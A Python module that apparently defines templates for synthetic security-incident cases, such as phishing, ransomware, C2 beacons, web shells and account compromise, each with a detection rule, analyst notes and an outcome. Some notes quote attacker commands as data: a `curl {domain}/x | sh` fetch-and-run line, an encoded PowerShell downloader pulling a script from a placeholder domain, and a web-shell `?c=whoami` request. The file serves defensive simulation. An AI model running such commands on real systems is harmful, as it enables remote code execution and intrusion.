"""What happens to security teams? Each plot is told with other hosts, people and addresses."""

from typing import NamedTuple


class Plot(NamedTuple):
    """A kind of incident; names in braces are filled in."""

    title: str
    category: str
    severities: tuple[str, ...]
    tags: tuple[str, ...]
    rule: str
    """The detection rule whose alerts opened the case."""
    found: str
    """What was seen first, Markdown."""
    notes: tuple[str, ...]
    """What analysts write while they work on it."""
    outcome: str
    """The last comment before the case is closed."""
    owner: str = "securitySolution"


PLOTS = (
    Plot(
        "Phishing mail to {department}: “{subject}”",
        "Phishing",
        ("low", "medium", "medium", "high"),
        ("phishing", "mail"),
        "Suspicious link in inbound mail",
        "{count} people in {department} got a mail that asks them to sign in at"
        " `{domain}`.\n\n- sender: `{sender}`\n- first seen: {time} UTC\n- **{user}** opened it",
        (
            "The page is a copy of our sign-in page. Screenshot taken, the site is still up.",
            "Mail gateway: **{count}** deliveries, 2 clicks. Message removed from all mailboxes.",
            "{user} says that no password was typed. Sessions revoked all the same.",
        ),
        "Domain blocked at the proxy and reported to its registrar. No credentials were used.",
    ),
    Plot(
        "Encoded PowerShell on {host}",
        "Malware",
        ("medium", "high", "high"),
        ("powershell", "endpoint", "T1059.001"),
        "PowerShell with an encoded command",
        "`powershell.exe -nop -w hidden -enc …` was started by `winword.exe` on **{host}**"
        " ({ip}) as `{user}`.\n\n> The decoded script fetches `http://{domain}/s.ps1`.",
        (
            "Decoded: a downloader, no persistence found so far.",
            "Host isolated at {time}. {user} got a spare laptop.",
            "Memory image taken, hash of the second stage: `{hash}`",
        ),
        "Host was installed anew, the document template is blocked by hash.",
    ),
    Plot(
        "Sign-ins of {user} from two countries within an hour",
        "Account compromise",
        ("medium", "high"),
        ("identity", "impossible-travel", "T1078"),
        "Impossible travel",
        "Two successful sign-ins of `{user}`:\n\n| when | from | address |\n|---|---|---|\n"
        "| {time} | Rotterdam | 10.20.3.7 |\n| +38 min | {country} | {ip} |",
        (
            "The second one used a remembered session. Tokens revoked.",
            "{user} was asked by phone: not travelling, uses no VPN.",
            "Mailbox rules checked: one new rule that moves mail with “invoice” to *RSS Feeds*.",
        ),
        "Password and second factor set anew; mailbox rule removed; two suppliers were warned.",
    ),
    Plot(
        "{count} failed log-ins on {host}, then one that worked",
        "Brute force",
        ("medium", "high", "critical"),
        ("ssh", "linux", "T1110"),
        "Brute force followed by a success",
        "{count} failed SSH log-ins from {ip} on **{host}** in ten minutes, then a success for"
        " `{user}`.",
        (
            "Commands of the session: `uname -a`, `nproc`, `curl {domain}/x | sh`.",
            "Port 22 of {host} should never have been open to the internet: change request filed.",
        ),
        "Machine rebuilt from its image, password log-in is off everywhere now.",
    ),
    Plot(
        "Ransom note on file server {host}",
        "Ransomware",
        ("critical",),
        ("ransomware", "endpoint", "T1486"),
        "Many files renamed in a short time",
        "# What is known\n\n1. {count} files on `\\\\{host}\\share` were renamed to `*.locked`\n"
        "2. note `README_NOW.txt` beside them\n3. account used: `{user}`\n\n**Share is offline"
        " since {time} UTC.**",
        (
            "Started from {host}, process `{hash}`. All segments checked: no second machine.",
            "Backups of last night are complete, test restore is running.",
            "Management and legal are informed; reporting deadline is tomorrow noon.",
            "Entry was the VPN account of {user} without a second factor.",
        ),
        "Restored from backup, 40 minutes of work lost. Lessons are in the wiki.",
    ),
    Plot(
        "Beacon from {host} to {domain}",
        "Command and control",
        ("high", "high", "critical"),
        ("c2", "dns", "T1071"),
        "Regular beacon to a young domain",
        "**{host}** asks `{domain}` every 60 s (jitter 10 %), {count} times so far. The domain is"
        " four days old.",
        (
            "TLS fingerprint fits a known framework.",
            "Process: `rundll32.exe` with no arguments, parent gone. Isolated.",
            "Two more hosts asked for the domain last week: {ip}, 10.4.8.15",
        ),
        "All three hosts cleaned, domain sinkholed, indicators shared with the sector.",
    ),
    Plot(
        "Bucket {bucket} was public",
        "Cloud",
        ("medium", "high"),
        ("cloud", "storage", "misconfiguration"),
        "Storage bucket became public",
        "`{bucket}` could be read by everyone since {time} UTC. Changed by `{user}`.",
        (
            "Access log: {count} reads from outside, all by a scanner ({ip}).",
            "The files are marketing pictures, no personal data.",
        ),
        "Closed, and a policy now keeps buckets of this account private.",
    ),
    Plot(
        "Miner on build agent {host}",
        "Cryptomining",
        ("low", "medium"),
        ("linux", "container", "T1496"),
        "Connection to a mining pool",
        "CPU of **{host}** is at 100 % since {time}; it talks to `{domain}:3333`.",
        (
            "Came with the dependency `left-padd` in a pull request of a fork.",
            "No secrets were in the environment of that job.",
        ),
        "Agent recreated; builds of forks need an approval now.",
    ),
    Plot(
        "{user} was added to Domain Admins",
        "Privilege",
        ("high", "critical"),
        ("identity", "active-directory", "T1098"),
        "Account added to a privileged group",
        "At {time} `svc-deploy` added `{user}` to **Domain Admins** on {host}.",
        (
            "No change request for that. `svc-deploy` is used by three people.",
            "Membership removed, all tickets of both accounts purged.",
        ),
        "It was an emergency change, documented too late. Team lead has talked to them.",
    ),
    Plot(
        "Laptop of {user} is lost",
        "Lost device",
        ("low", "medium"),
        ("device", "privacy"),
        "Device reported as lost",
        "{user} ({department}) left a laptop (**{host}**) in a train at {time}.",
        (
            "Disk is encrypted, last check-in before the loss. Remote wipe is queued.",
            "Data protection officer informed: no report needed.",
        ),
        "Laptop came back from lost property, wiped.",
    ),
    Plot(
        "Web shell on {host}",
        "Web attack",
        ("high", "critical"),
        ("web", "T1505.003"),
        "Web server started a shell",
        "`w3wp.exe` started `cmd.exe /c whoami` on **{host}**; requests come from {ip}:\n\n"
        "```\nPOST /upload/img.aspx?c=whoami HTTP/1.1\n```",
        (
            "File `{hash}` found in `/upload`, written at {time}.",
            "The upload plug-in is two versions behind. {count} requests in the access log.",
        ),
        "Plug-in updated, host rebuilt, keys of the application replaced.",
    ),
    Plot(
        "{count} GB uploaded by {user} on the last working day",
        "Data loss",
        ("medium", "high"),
        ("insider", "dlp", "T1567"),
        "Unusual amount of data uploaded",
        "`{user}` ({department}) leaves the company tomorrow; {count} GB went to `{domain}`.",
        (
            "HR and works council are in the loop. *Need to know only.*",
            "List of files: mostly holiday pictures, one folder of price lists.",
        ),
        "Conversation held, files deleted in presence of a witness.",
    ),
    Plot(
        "Checkout answers slowly since {time}",
        "Availability",
        ("medium", "high"),
        ("latency", "checkout"),
        "Latency threshold",
        "p95 of `checkout` went from 180 ms to {count} ms. Error budget of the month is at 40 %.",
        (
            "Deployment of {time} added a query per line item.",
            "Rolled back, p95 is normal again.",
        ),
        "Index added, deployed again without harm.",
        owner="observability",
    ),
    Plot(
        "Disk of {host} will be full tonight",
        "Capacity",
        ("low", "medium"),
        ("disk", "storage"),
        "Disk usage forecast",
        "`/var` on **{host}** grows by {count} MB an hour.",
        ("Debug logging was left on.",),
        "Log level set back, old files removed.",
        owner="observability",
    ),
    Plot(
        "Access request for {bucket} by {department}",
        "Request",
        ("low",),
        ("access",),
        "Request form",
        "{user} asks for read access to `{bucket}` for the quarterly report.",
        ("Approved by the owner of the data until the end of the month.",),
        "Granted with an end date.",
        owner="cases",
    ),
)
